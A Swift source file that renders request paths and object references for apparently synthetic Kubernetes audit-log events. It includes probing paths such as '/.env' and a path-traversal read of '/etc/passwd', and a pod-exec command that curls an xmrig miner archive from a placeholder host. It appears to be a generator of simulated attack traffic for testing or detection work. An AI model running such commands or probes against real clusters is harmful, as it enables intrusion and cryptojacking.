/// The path of a request, and the object that it is about.
extension EventRenderer {
    private static let outsidePaths: [StaticString] = [
        "/.env", "/admin", "/api/v1/../../etc/passwd", "/actuator/health", "/wp-login.php", "/solr/admin/info/system",
        "/cgi-bin/luci", "/console/",
    ]
    private static let discoveryPaths: [StaticString] = [
        "/api?timeout=32s", "/apis?timeout=32s", "/openapi/v2?timeout=32s", "/version",
    ]
    private static let healthPaths: [StaticString] = ["/livez", "/readyz", "/healthz"]

    func putPath(_ record: EventRecord, _ form: Form, to out: inout TextWriter) {
        guard form.naming != .path else { return putPlainPath(record, to: &out) }
        if form.group.utf8CodeUnitCount == 0 {
            out.put("/api/")
        } else {
            out.put("/apis/")
            out.put(form.group)
            out.put("/")
        }
        out.put(form.version)
        if form.isNamespaced {
            out.put("/namespaces/")
            out.put(namespace(of: record, form))
        }
        out.put("/")
        out.put(form.resource)
        if form.isWatch {
            putWatchQuery(record, form, to: &out)
            return
        }
        if form.naming != .none, !form.isCreation {
            out.put("/")
            putName(record, form, to: &out)
        }
        if form.subresource.utf8CodeUnitCount > 0 {
            out.put("/")
            out.put(form.subresource)
        }
        out.put(form.query)
        if record.operation == .podExec { putCommand(record, to: &out) }
    }

    func putPlainPath(_ record: EventRecord, to out: inout TextWriter) {
        let number = Int(record.revision)
        switch record.operation {
        case .health: out.put(Self.healthPaths[number % 3])
        case .metrics: out.put("/metrics")
        case .discovery: out.put(Self.discoveryPaths[number % 4])
        default: out.put(Self.outsidePaths[number % 8])
        }
    }

    private func putWatchQuery(_ record: EventRecord, _ form: Form, to out: inout TextWriter) {
        out.put(form.query)
        if form.naming != .none { putName(record, form, to: &out) }
        // From five to ten minutes, of which both events of the watch say the same.
        let seconds = 300 + (record.id >> 20) % 300
        out.put(#"\u0026resourceVersion="#)
        out.put(decimal: model.versions.version(at: record.prior))
        out.put(#"\u0026timeout="#)
        out.put(decimal: seconds / 60)
        out.put("m")
        out.put(decimal: seconds % 60)
        out.put(#"s\u0026timeoutSeconds="#)
        out.put(decimal: seconds)
        out.put(#"\u0026watch=true"#)
    }

    private func putCommand(_ record: EventRecord, to out: inout TextWriter) {
        if record.revision == WindowPlanner.miner {
            out.put(
                #"sh\u0026command=-c\u0026command=curl+-sL+https%3A%2F%2Fexample.invalid/xmr-miners/xmrig/latest.tgz"#)
        } else {
            let commands: [StaticString] = [
                "sh", "bash", #"ls\u0026command=-la\u0026command=%2Ftmp"#, "env",
                #"cat\u0026command=%2Fetc%2Fresolv.conf"#,
                #"sh\u0026command=-c\u0026command=ps+aux"#, #"psql\u0026command=-c\u0026command=select+1"#, "top",
            ]
            out.put(commands[Int(record.id >> 40 & 7)])
        }
        out.put(#"\u0026container=app\u0026stderr=true\u0026stdin=true\u0026stdout=true\u0026tty=true"#)
    }

    /// The members of `objectRef` after the quote of its resource.
    func putReference(_ record: EventRecord, _ form: Form, to out: inout TextWriter) {
        out.put(form.resource)
        if form.isNamespaced || form.naming == .namespace {
            out.put(#"","namespace":""#)
            out.put(namespace(of: record, form))
        }
        let isNamed = form.naming != .none && !(form.isWatch && record.operation == .podWatchOfNode)
        if isNamed {
            out.put(#"","name":""#)
            putName(record, form, to: &out)
        }
        if form.hasVersion {
            out.put(#"","uid":""#)
            putUID(of: objectKey(record, form), form.resource, to: &out)
        }
        if form.group.utf8CodeUnitCount > 0 {
            out.put(#"","apiGroup":""#)
            out.put(form.group)
        }
        out.put(#"","apiVersion":""#)
        out.put(form.version)
        if form.hasVersion, record.operation != .podBind {
            out.put(#"","resourceVersion":""#)
            out.put(decimal: versionRead(record))
        }
        if form.subresource.utf8CodeUnitCount > 0 {
            out.put(#"","subresource":""#)
            out.put(form.subresource)
        }
        out.put("\"")
    }
}
